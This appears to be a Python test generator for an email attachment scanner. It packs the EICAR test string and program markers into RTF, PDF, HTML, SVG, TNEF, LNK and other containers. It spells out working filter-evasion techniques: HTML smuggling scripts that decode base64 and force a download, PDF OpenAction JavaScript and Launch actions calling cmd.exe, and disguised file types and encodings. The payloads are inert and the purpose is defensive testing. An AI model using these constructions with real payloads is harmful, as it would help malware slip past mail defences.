                "__attach_version1.0_#00000000/__substg1.0_37010102": EICAR,
                "__attach_version1.0_#00000000/__substg1.0_3707001F": "a.com".encode("utf-16-le"),
            }
        ),
        "a.msg",
        EICAR,
    )
    yield of(
        "odt",
        documents.zip_file({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>", "Object 1": EICAR}),
        "a.odt",
        EICAR,
    )


def active_mime(data: bytes) -> bytes:
    packed = zlib.compress(data)
    return (
        b"ActiveMime\0\0\1\xf0\4\0\0\0\xff\xff\xff\xff\0\0\x07\xf0"
        + struct.pack("<I", len(packed))
        + b"\4\0\0\0\4\0\0\0\0\0\0\0"
        + struct.pack("<I", len(data))
        + packed
    )


def rtf_files() -> Iterator[Container]:
    ole = documents.ole1_object(b"Package", documents.ole_package(NAME, EICAR))
    text = ole.hex().encode()
    head = b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata "
    tail = b"}}}"
    for name, data in (
        ("plain", head + text + tail),
        ("upper", head + text.upper() + tail),
        ("lines", head + b"\r\n".join(text[i : i + 60] for i in range(0, len(text), 60)) + tail),
        ("blanks", head + b" ".join(text[i : i + 1] for i in range(len(text))) + tail),
        ("tabs", head + b"\t\n".join(text[i : i + 7] for i in range(0, len(text), 7)) + tail),
        ("control-words", head + b"\\par ".join(text[i : i + 10] for i in range(0, len(text), 10)) + tail),
        ("groups", head + b"{}".join(text[i : i + 10] for i in range(0, len(text), 10)) + tail),
        ("ignored-groups", head + b"{\\*\\x}".join(text[i : i + 10] for i in range(0, len(text), 10)) + tail),
        ("odd-digit", head + b"0" + text + tail),
        ("junk-letters", head + b"zz".join(text[i : i + 10] for i in range(0, len(text), 10)) + tail),
        ("nested", head.replace(b"{\\*\\objdata ", b"{\\*\\objdata {{{") + text + b"}}}" + tail),
        ("no-star", head.replace(b"{\\*\\objdata", b"{\\objdata") + text + tail),
        ("no-class", head.replace(b"{\\*\\objclass Package}", b"") + text + tail),
        ("no-blank", head.replace(b"objdata ", b"objdata\r\n") + text + tail),
        ("short-header", b"{\\rt" + head[6:] + text + tail),
        ("no-version", head.replace(b"rtf1", b"rtf") + text + tail),
        ("version-x", head.replace(b"rtf1", b"rtfxyz") + text + tail),
        ("prefix-blanks", b"  \r\n" + head + text + tail),
        ("unclosed", head + text),
        ("bin", head + b"\\bin%d " % len(ole) + ole + tail),
        ("bin-inside", head + text[:40] + b"\\bin0 " + text[40:] + tail),
        ("quote-escape", head + b"\\'".join((text[:20], text[20:])) + tail),
        ("datastore", b"{\\rtf1{\\*\\datastore " + text + b"}}"),
        ("raw-file", head + EICAR.hex().encode() + tail),
        ("zip-file", head + ZIP.hex().encode() + tail),
        ("two-objects", head + b"00" * 20 + b"}}{\\object{\\*\\objdata " + text + tail),
        ("header-decoy", b"{\\rtf1 hello}{\\rtf1" + head[6:] + text + tail),
    ):
        yield Container("rtf-" + name, data, "report.rtf")
        if name in ("plain", "blanks", "short-header"):
            yield Container("rtf-as-doc-" + name, data, "report.doc", media_type="application/msword")
            yield Container("rtf-as-txt-" + name, data, "report.txt", media_type="text/plain")
            yield Container("rtf-zip-" + name, wrappings.zipped(data, "a.rtf"), "a.zip")


def pdf(*objects: bytes, head: bytes = b"%PDF-1.7\n", root: bytes = b"") -> bytes:
    catalog = b"1 0 obj\n<</Type/Catalog/Pages 2 0 R" + root + b">>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
    return head + catalog + b"".join(objects) + b"trailer\n<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n"


def _stream(number: int, dictionary: bytes, data: bytes) -> bytes:
    return b"%d 0 obj\n<<%b/Length %d>>stream\n" % (number, dictionary, len(data)) + data + b"\nendstream\nendobj\n"


def _object_stream(number: int, objects: dict[int, bytes]) -> bytes:
    head = text = b""
    for key, value in objects.items():
        head += b"%d %d " % (key, len(text))
        text += value + b" "
    return _stream(number, b"/Type/ObjStm/N %d/First %d/Filter/FlateDecode" % (len(objects), len(head)), zlib.compress(head + text))


def pdf_files() -> Iterator[Container]:
    names = b"/Names<</EmbeddedFiles<</Names[(eicar.com)4 0 R]>>>>"
    spec = b"4 0 obj\n<</Type/Filespec/F(eicar.com)/EF<</F 5 0 R>>>>\nendobj\n"
    flate = zlib.compress(EICAR)

    def embedded(filters: bytes, data: bytes) -> bytes:
        return pdf(spec, _stream(5, b"/Type/EmbeddedFile" + filters, data), root=names)

    runs = zlib.compress(flate)
    for name, data in (
        ("embedded", embedded(b"/Filter/FlateDecode", flate)),
        ("embedded-plain", embedded(b"", EICAR)),
        ("embedded-hex", embedded(b"/Filter/ASCIIHexDecode", EICAR.hex().encode() + b">")),
        ("embedded-85", embedded(b"/Filter/ASCII85Decode", base64.a85encode(EICAR) + b"~>")),
        ("embedded-hex-flate", embedded(b"/Filter[/ASCIIHexDecode/FlateDecode]", flate.hex().encode() + b">")),
        ("embedded-85-flate", embedded(b"/Filter[/ASCII85Decode/FlateDecode]", base64.a85encode(flate) + b"~>")),
        ("embedded-twice", embedded(b"/Filter[/FlateDecode/FlateDecode]", runs)),
        ("embedded-short-names", embedded(b"/Filter[/AHx/Fl]", flate.hex().encode() + b">")),
        ("embedded-escaped-filter", embedded(b"/Filter/Fl#61teDecode", flate)),
        ("embedded-escaped-type", embedded(b"/Filter/FlateDecode", flate).replace(b"EmbeddedFile/", b"Embedded#46ile/")),
        ("embedded-run-length", embedded(b"/Filter/RunLengthDecode", bytes((67,)) + EICAR + b"\x80")),
        ("embedded-crypt-identity", embedded(b"/Filter[/Crypt/FlateDecode]", flate)),
        ("embedded-wrong-length", embedded(b"/Filter/FlateDecode", flate).replace(b"/Length %d" % len(flate), b"/Length 3")),
        ("embedded-length-elsewhere", embedded(b"/Filter/FlateDecode", flate).replace(b"/Length %d" % len(flate), b"/Length 9 0 R")),
        ("embedded-no-length", embedded(b"/Filter/FlateDecode", flate).replace(b"/Length %d" % len(flate), b"")),
        ("embedded-cut", embedded(b"/Filter/FlateDecode", flate[:-4])),
        ("embedded-zip", embedded(b"/Filter/FlateDecode", zlib.compress(ZIP))),
        ("embedded-no-end", embedded(b"/Filter/FlateDecode", flate).replace(b"\nendstream\nendobj\n", b"")),
        ("embedded-cr", embedded(b"/Filter/FlateDecode", flate).replace(b"stream\n", b"stream\r", 1)),
        ("embedded-crlf", embedded(b"/Filter/FlateDecode", flate).replace(b">>stream\n", b">>\r\nstream\r\n")),
        ("embedded-comments", embedded(b"/Filter%x\n/FlateDecode", flate)),
        ("unnamed-stream", pdf(_stream(5, b"/Filter/FlateDecode", flate))),
        ("image-stream", pdf(_stream(5, b"/Type/XObject/Subtype/Image/Filter/FlateDecode", flate))),
        (
            "spec-in-object-stream",
            pdf(
                _object_stream(6, {4: b"<</Type/Filespec/F(eicar.com)/EF<</F 5 0 R>>>>"}),
                _stream(5, b"/Filter/FlateDecode", flate),
                root=names,
            ),
        ),
        ("header-junk", b"junk" * 100 + embedded(b"/Filter/FlateDecode", flate)),
        ("header-junk-1020", b"j" * 1020 + embedded(b"/Filter/FlateDecode", flate)),
        ("header-line-ends", b"\r\n\r\n" + embedded(b"/Filter/FlateDecode", flate)),
        ("header-version", embedded(b"/Filter/FlateDecode", flate).replace(b"%PDF-1.7", b"%PDF-bad")),
        ("header-no-version", embedded(b"/Filter/FlateDecode", flate).replace(b"%PDF-1.7", b"%PDF-")),
        ("header-none", embedded(b"/Filter/FlateDecode", flate)[9:]),
        ("header-gif", b"GIF89a" + bytes(30) + embedded(b"/Filter/FlateDecode", flate)),
        ("behind-end", pdf() + embedded(b"/Filter/FlateDecode", flate)),
        ("payload-behind-end", pdf() + EICAR),
        ("zip-behind-end", pdf() + ZIP),
        ("incremental", pdf() + spec + _stream(5, b"/Filter/FlateDecode", flate) + b"trailer\n<</Root 1 0 R/Prev 0>>\n%%EOF\n"),
        ("in-string", pdf(b"4 0 obj\n<" + EICAR.hex().encode() + b">\nendobj\n")),
    ):
        yield Container("pdf-" + name, data, "a.pdf", media_type="application/pdf")
    script = b"(/* " + JS_MARK + b" */ app.alert\\(1\\);)"
    action = b"<</S/JavaScript/JS" + script + b">>"
    packed = zlib.compress(script[1:-1])
    for name, data in (
        ("js", pdf(b"4 0 obj\n" + action + b"\nendobj\n", root=b"/OpenAction 4 0 R")),
        ("js-direct", pdf(root=b"/OpenAction" + action)),
        ("js-names", pdf(root=b"/Names<</JavaScript<</Names[(a)" + action + b"]>>>>")),
        ("js-additional", pdf(root=b"/AA<</WC" + action + b">>")),
        ("js-escaped", pdf(b"4 0 obj\n" + action.replace(b"/JavaScript", b"/J#61vaScript") + b"\nendobj\n", root=b"/OpenAction 4 0 R")),
        (
            "js-escaped-all",
            pdf(b"4 0 obj\n<</#53/#4a#61#76#61#53#63#72#69#70#74/#4a#53" + script + b">>\nendobj\n", root=b"/#4fpenAction 4 0 R"),
        ),
        ("js-escaped-open", pdf(b"4 0 obj\n" + action + b"\nendobj\n", root=b"/OpenActi#6fn 4 0 R")),
        ("js-object-stream", pdf(_object_stream(6, {4: action}), root=b"/OpenAction 4 0 R")),
        (
            "js-catalog-in-object-stream",
            b"%PDF-1.7\n" + _object_stream(6, {1: b"<</Type/Catalog/OpenAction 4 0 R>>", 4: action}) + b"trailer\n<</Root 1 0 R>>\n%%EOF\n",
        ),
        (
            "js-stream",
            pdf(b"4 0 obj\n<</S/JavaScript/JS 5 0 R>>\nendobj\n", _stream(5, b"/Filter/FlateDecode", packed), root=b"/OpenAction 4 0 R"),
        ),
        ("js-blanks", pdf(b"4 0 obj\n<< /S /JavaScript /JS " + script + b" >>\nendobj\n", root=b" /OpenAction 4 0 R ")),
        ("js-line-ends", pdf(b"4\r0\robj\r<<\r/S\r/JavaScript\r/JS\r" + script + b"\r>>\rendobj\r", root=b"\r/OpenAction\r4\r0\rR")),
        ("js-comments", pdf(b"4 0 obj\n<</S%x\n/JavaScript%y\n/JS%z\n" + script + b">>\nendobj\n", root=b"/OpenAction%x\n4 0 R")),
        ("js-nul-blanks", pdf(b"4 0 obj\n<<\0/S\0/JavaScript\0/JS\0" + script + b">>\nendobj\n", root=b"/OpenAction\x004 0 R")),
        ("js-rendition", pdf(b"4 0 obj\n<</S/Rendition/JS" + script + b">>\nendobj\n", root=b"/OpenAction 4 0 R")),
        ("js-next", pdf(b"4 0 obj\n<</S/GoTo/D[]/Next" + action + b">>\nendobj\n", root=b"/OpenAction 4 0 R")),
        ("js-page", pdf(b"4 0 obj\n<</Type/Page/AA<</O" + action + b">>>>\nendobj\n")),
        ("js-junk-header", b"junk" * 30 + pdf(b"4 0 obj\n" + action + b"\nendobj\n", root=b"/OpenAction 4 0 R")),
        ("js-no-endobj", pdf(b"4 0 obj\n" + action + b"\n", root=b"/OpenAction 4 0 R")),
        ("js-hex", pdf(b"4 0 obj\n<</S/JavaScript/JS<" + script[1:-1].hex().encode() + b">>>\nendobj\n", root=b"/OpenAction 4 0 R")),
        ("launch", pdf(b"4 0 obj\n<</S/Launch/Win<</F(cmd.exe)/P(" + JS_MARK + b")>>>>\nendobj\n", root=b"/OpenAction 4 0 R")),
        ("launch-escaped", pdf(b"4 0 obj\n<</S/L#61unch/Win<</F(cmd.exe)/P(" + JS_MARK + b")>>>>\nendobj\n", root=b"/OpenAction 4 0 R")),
        ("launch-object-stream", pdf(_object_stream(6, {4: b"<</S/Launch/F(" + JS_MARK + b".exe)>>"}), root=b"/OpenAction 4 0 R")),
        ("launch-blanks", pdf(b"4 0 obj\n<</S  \n /Launch /F(" + JS_MARK + b")>>\nendobj\n", root=b"/OpenAction 4 0 R")),
    ):
        yield Container("pdf-" + name, data, "a.pdf", JS_MARK, "application/pdf")
        yield Container("pdf-dat-" + name, data, "a.dat", JS_MARK)
        yield Container("pdf-zip-" + name, wrappings.zipped(data, "a.pdf"), "a.zip", JS_MARK)


def pages() -> Iterator[Container]:
    coded = base64.b64encode(EICAR)
    blob = b'var s=atob(b);var a=new Uint8Array(s.length);for(var i=0;i<s.length;i++)a[i]=s.charCodeAt(i);var l=document.createElement("a");l.href=URL.createObjectURL(new Blob([a]));l.download="eicar.com";l.click();'
    page = b'<html><body><script>var b="' + coded + b'";' + blob + b"</script></body></html>"
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[' + b'var b="' + coded + b'";' + blob + b"]]></script></svg>"
    text = page.decode()
    for name, data in (
        ("smuggling", page),
        ("single-quotes", page.replace(b'"' + coded + b'"', b"'" + coded + b"'")),
        ("backticks", page.replace(b'"' + coded + b'"', b"`" + coded + b"`")),
        ("joined", page.replace(coded, b'"+"'.join(coded[i : i + 8] for i in range(0, len(coded), 8)))),
        ("joined-lines", page.replace(coded, b'" +\r\n "'.join(coded[i : i + 30] for i in range(0, len(coded), 30)))),
        (
            "array",
            page.replace(
                b'"' + coded + b'"', b"[" + b",".join(b'"' + coded[i : i + 20] + b'"' for i in range(0, len(coded), 20)) + b'].join("")'
            ),
        ),
        ("continued", page.replace(coded, b"\\\r\n".join(coded[i : i + 40] for i in range(0, len(coded), 40)))),
        ("numbers", page.replace(b'"' + coded + b'"', b"[" + b",".join(b"%d" % byte for byte in EICAR) + b"]")),
        ("hex-numbers", page.replace(b'"' + coded + b'"', b"[" + b",".join(b"0x%02x" % byte for byte in EICAR) + b"]")),
        ("hex-string", page.replace(coded, EICAR.hex().encode())),
        ("hex-escapes", page.replace(coded, b"".join(b"\\x%02x" % byte for byte in EICAR))),
        ("percent", page.replace(coded, b"".join(b"%%%02x" % byte for byte in EICAR))),
        ("unicode-escapes", page.replace(coded, b"".join(b"\\u%04x" % byte for byte in EICAR))),
        ("utf-8-bom", b"\xef\xbb\xbf" + page),
        ("utf-16le", b"\xff\xfe" + text.encode("utf-16-le")),
        ("utf-16be", b"\xfe\xff" + text.encode("utf-16-be")),
        ("utf-16le-no-bom", text.encode("utf-16-le")),
        ("utf-16be-no-bom", text.encode("utf-16-be")),
        ("utf-32", b"\xff\xfe\0\0" + text.encode("utf-32-le")),
        ("utf-7", text.encode("utf-7")),
        ("utf-7-full", b"+" + base64.b64encode(text.encode("utf-16-be")).rstrip(b"=") + b"-"),
        ("utf-7-meta", b'<meta http-equiv="Content-Type" content="text/html; charset=utf-7">' + text.encode("utf-7")),
        ("nul-bytes", page.replace(b"<script>", b"<scr\0ipt>")),
        ("nul-in-data", page.replace(coded, coded[:10] + b"\0" + coded[10:])),
        ("comment-first", b"<!-- " + b"x" * 5000 + b" -->" + page),
        ("text-first", b"Hello there\r\n" * 10 + page),
        ("long-text-first", b"Hello there\r\n" * 1000 + page),
        ("doctype", b"<!DOCTYPE html>" + page),
        ("xhtml", b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">' + page),
        ("no-html", page.replace(b"<html><body>", b"").replace(b"</body></html>", b"")),
        ("upper", page.replace(b"<script>", b"<SCRIPT>").replace(b"html", b"HTML")),
        ("data-uri", b'<html><a href="data:application/octet-stream;base64,' + coded + b'" download=eicar.com>x</a></html>'),
        ("data-uri-unquoted", b"<html><a href=data:application/octet-stream;base64," + coded + b" download=eicar.com>x</a></html>"),
        ("data-uri-upper", b'<html><a href="DATA:application/octet-stream;BASE64,' + coded + b'">x</a></html>'),
        ("data-uri-blank", b'<html><a href=" data: application/octet-stream ; base64 , ' + coded + b'">x</a></html>'),
        (
            "data-uri-lines",
            b'<html><a href="data:;base64,' + b"\r\n".join(coded[i : i + 30] for i in range(0, len(coded), 30)) + b'">x</a></html>',
        ),
        ("data-uri-percent", b'<html><a href="data:,' + b"".join(b"%%%02X" % byte for byte in EICAR) + b'">x</a></html>'),
        ("data-uri-entities", b'<html><a href="data&colon;;base64&comma;' + coded + b'">x</a></html>'),
        ("data-uri-entity-letters", b'<html><a href="&#100;ata:;base64,' + b"".join(b"&#%d;" % byte for byte in coded) + b'">x</a></html>'),
        ("data-uri-percent-base64", b'<html><a href="data:;base64,' + coded.replace(b"W", b"%57") + b'">x</a></html>'),
        ("data-uri-embed", b'<html><embed src="data:application/pdf;base64,' + coded + b'"></html>'),
        ("data-uri-object", b'<html><object data="data:text/html;base64,' + base64.b64encode(page) + b'"></object></html>'),
        ("data-uri-iframe", b'<html><iframe src="data:text/html;base64,' + base64.b64encode(page) + b'"></iframe></html>'),
        ("data-uri-css", b"<html><style>a{background:url(data:;base64," + coded + b")}</style></html>"),
        ("data-uri-zip", b'<html><a href="data:;base64,' + base64.b64encode(ZIP) + b'">x</a></html>'),
        ("zip", page.replace(coded, base64.b64encode(ZIP))),
        ("zip-stored", page.replace(coded, base64.b64encode(wrappings.zipped(EICAR, "a.com", 0)))),
        ("gzip", page.replace(coded, base64.b64encode(gzip.compress(EICAR)))),
        ("twice", page.replace(coded, base64.b64encode(coded))),
        ("no-padding", page.replace(coded, coded.rstrip(b"="))),
        ("url-safe", page.replace(coded, base64.urlsafe_b64encode(EICAR))),
        (
            "attribute",
            b'<html><body><div id=x data-x="' + coded + b'"></div><script>var b=x.dataset.x;' + blob + b"</script></body></html>",
        ),
        ("textarea", b"<html><body><textarea id=x>" + coded + b"</textarea><script>var b=x.value;" + blob + b"</script></body></html>"),
        ("comment", b"<html><body><!--" + coded + b"--><script>" + blob + b"</script></body></html>"),
        ("reversed-no", page.replace(b"</script>", b"//</script>")),
        ("template", page.replace(b'"' + coded + b'"', b"`${''}" + coded + b"`")),
        ("svg-in-html", b"<html><body>" + svg + b"</body></html>"),
        (
            "srcdoc",
            b"<html><iframe srcdoc=\"&lt;script&gt;var b='"
            + coded
            + b"';"
            + blob.replace(b'"', b"&quot;")
            + b'&lt;/script&gt;"></iframe></html>',
        ),
        ("literal", b"<html><pre>" + EICAR + b"</pre></html>"),
        ("vbscript", b'<html><script language=vbscript>b = "' + coded + b'"</script></html>'),
    ):
        for file, media_type in (("invoice.html", "text/html"), ("invoice.dat", "application/octet-stream")):
            yield Container(f"html-{name}-{file[8:]}", data, file, media_type=media_type)
        if name in ("smuggling", "utf-16le", "utf-7", "data-uri"):
            for file, media_type in (
                ("a.htm", "text/html"),
                ("a.shtml", "text/plain"),
                ("a.xht", "application/xhtml+xml"),
                ("a.svg", "image/svg+xml"),
                ("a", "text/html"),
                ("a.txt", "text/plain"),
                ("a.jpg", "image/jpeg"),
            ):
                yield Container(f"html-{name}-{file}-{media_type.replace('/', '-')}", data, file, media_type=media_type)
            yield Container(f"html-{name}-zip", wrappings.zipped(data, "a.html"), "a.zip")
    for name, data in (
        ("script", svg),
        ("xml", b'<?xml version="1.0"?>' + svg),
        ("doctype", b'<!DOCTYPE svg PUBLIC "x" "y">' + svg),
        (
            "prefix",
            svg.replace(b"<svg xmlns", b"<s:svg xmlns:s")
            .replace(b"</svg>", b"</s:svg>")
            .replace(b"<script>", b"<s:script>")
            .replace(b"</script>", b"</s:script>"),
        ),
        ("href", b'<svg xmlns="http://www.w3.org/2000/svg"><a href="data:;base64,' + coded + b'"><text>x</text></a></svg>'),
        ("image", b'<svg xmlns="http://www.w3.org/2000/svg"><image href="data:image/png;base64,' + coded + b'"/></svg>'),
        (
            "foreign",
            b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe src="data:text/html;base64,'
            + base64.b64encode(page)
            + b'"/></foreignObject></svg>',
        ),
        ("utf-16", b"\xff\xfe" + svg.decode().encode("utf-16-le")),
        ("utf-8-bom", b"\xef\xbb\xbf" + svg),
        ("comment", b"<!-- x -->" + svg),
        (
            "script-src",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script href="data:text/javascript;base64,'
            + base64.b64encode(b'var b="' + coded + b'";' + blob)
            + b'"/></svg>',
        ),
    ):
        yield Container(f"svg-{name}", data, "a.svg", media_type="image/svg+xml")
        yield Container(f"svg-{name}-png", data, "a.png", media_type="image/png")
        yield Container(f"svg-{name}-dat", data, "a.dat")
    yield Container("svgz", gzip.compress(svg), "a.svgz", media_type="image/svg+xml")


def programs() -> Iterator[Container]:
    """Files that are dangerous by their type alone, under harmless names."""
    guid = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F"
    lnk = guid + bytes(56) + b"C:\\Windows\\System32\\cmd.exe /c " + PROGRAM_MARK
    section = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
    blob_head, blob_foot = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac"), bytes.fromhex("22a7fb7179310f4abb13de9c1f4c87cb"[:32])

    def note(data: bytes) -> bytes:
        return section + bytes(100) + blob_head + struct.pack("<Q12x", len(data)) + data + bytes(-len(data) % 8) + blob_foot + bytes(50)

    chm = b"ITSF\3\0\0\0\x60\0\0\0\1\0\0\0" + bytes(80) + PROGRAM_MARK
    hta = b"<html><head><hta:application id=x></head><script>// " + PROGRAM_MARK + b"</script></html>"
    wsf = b"<job><script language=JScript>// " + PROGRAM_MARK + b"</script></job>"
    for name, data, marker in (
        ("exe", PROGRAM, PROGRAM_MARK),
        ("lnk", lnk, PROGRAM_MARK),
        ("chm", chm, PROGRAM_MARK),
        ("hta", hta, PROGRAM_MARK),
        ("wsf", wsf, PROGRAM_MARK),
        ("one-exe", note(PROGRAM), PROGRAM_MARK),
        ("one-eicar", note(EICAR), EICAR),
        ("one-zip", note(ZIP), EICAR),
        ("class", b"\xca\xfe\xba\xbe\0\0\0\x34" + PROGRAM_MARK, PROGRAM_MARK),
        ("elf", b"\x7fELF\2\1\1" + bytes(57) + PROGRAM_MARK, PROGRAM_MARK),
        ("encoded-script", b"#@~^AAAAAA==" + PROGRAM_MARK, PROGRAM_MARK),
    ):
        for file, media_type in (
            ("a.txt", "text/plain"),
            ("a.jpg", "image/jpeg"),
            ("a", "application/octet-stream"),
            ("a.pdf", "application/pdf"),
            ("a.dat", "application/x-foo"),
        ):
            yield Container(f"{name}-as-{file}", data, file, marker, media_type)
        yield Container(f"{name}-in-zip", wrappings.zipped(data, "a.txt"), "a.zip", marker)
        yield Container(f"{name}-in-tgz", gzip.compress(wrappings.tarred(data, "a.txt")), "a.tgz", marker)
        yield Container(f"{name}-in-tnef", tnef(data, name=b"a.txt"), "winmail.dat", marker)
        yield Container(
            f"{name}-in-html", b'<html><script>var b="' + base64.b64encode(data) + b'";</script></html>', "a.html", marker, "text/html"
        )
        yield Container(f"{name}-in-eml", mail(encoded_part(data)), "a.eml", marker)
        yield Container(f"{name}-in-smime", wrappings.smime_opaque(encoded_part(data)), "smime.p7m", marker)


def tnef_files() -> Iterator[Container]:
    for name, data in (
        ("plain", tnef(EICAR)),
        ("checksums", tnef(EICAR, checksums=False)),
        ("zip", tnef(ZIP, name=b"a.zip")),
        ("prefix", tnef(EICAR, before=b"junk" * 10)),
        ("suffix", tnef(EICAR) + b"junk" * 10),
        ("cut", tnef(EICAR + b"x" * 30)[:-20]),
        ("property", tnef_property(EICAR)),
        ("two", tnef(b"good") + tnef(EICAR)[6:]),
        ("in-tnef", tnef(tnef(EICAR), name=b"winmail.dat")),
        ("data-before-name", tnef(b"good")[:-2] + tnef(EICAR)[6:]),
        ("long-name", tnef(EICAR, long_name="report.txt")),
        ("level-1-data", documents.tnef_file(documents.tnef_attribute(1, 0x6800F, EICAR))),
        ("message-in", tnef(mail(encoded_part(EICAR)), name=b"a.eml")),
    ):
        for file, media_type in (
            ("winmail.dat", "application/ms-tnef"),
            ("a.txt", "text/plain"),
            ("a.dat", "application/octet-stream"),
            ("a.png", "image/png"),
            ("win.dat", "application/vnd.ms-tnef"),
        ):
            yield Container(f"tnef-{name}-{file}", data, file, media_type=media_type)


def containers() -> Iterator[Container]:
    yield from zips()
    yield from archives()
    yield from tnef_files()
    yield from office_files()
    yield from rtf_files()
    yield from pdf_files()
    yield from pages()
    yield from programs()


def container_variants() -> Iterator[Variant]:
    for container in containers():
        message = attached(container.data, container.file, container.media_type, container.text)
        yield Variant(container.name, "container", (message,), container.marker, None, container.special)
    for name in (
        "zip-deflated",
        "zip-zombie",
        "tgz",
        "tnef-plain-winmail.dat",
        "office-docm",
        "rtf-plain",
        "pdf-embedded",
        "html-smuggling-html",
    ):
        container = next(found for found in containers() if found.name == name)
        for kind in ("text/plain", "image/png", "application/pdf", "application/zip", "audio/mpeg", "text/html", "message/rfc822", "x/y"):
            label = kind.replace("/", "-")
            message = attached(container.data, "report.bin", kind)
            yield Variant(f"{name}-labelled-{label}", "container", (message,), container.marker)
            coded = single(f"Content-Type: {kind}\r\nContent-Transfer-Encoding: base64\r\n".encode(), base64_lines(container.data))
            yield Variant(f"{name}-alone-{label}", "container", (coded,), container.marker)
    coded = base64.b64encode(EICAR)
    for name, body in (
        ("link", b'<a download=eicar.com href="data:application/octet-stream;base64,' + coded + b'">open</a>'),
        ("script", b"<script>var b='" + coded + b"';</script>"),
        ("image", b'<img src="data:image/png;base64,' + coded + b'">'),
        ("image-unquoted", b"<img src=data:image/png;base64," + coded + b">"),
    ):
        for declared in (b"text/html", b"text/html; charset=utf-16", b"text/plain", b"text/html; charset=utf-7"):
            text = body.decode().encode("utf-16") if b"16" in declared else body.decode().encode("utf-7") if b"utf-7" in declared else body
            label = declared.decode().split("=")[-1].replace("/", "-")
            fields = b"Content-Type: " + declared + b"\r\n"
            yield Variant(
                f"body-{name}-{label}-base64", "container", (single(fields + b"Content-Transfer-Encoding: base64\r\n", base64_lines(text)),)
            )
            if b"16" not in declared:
                yield Variant(f"body-{name}-{label}", "container", (single(fields, text),))


def gzip_bytes(data: bytes) -> bytes:
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0) as file:
        file.write(data)
    return out.getvalue()
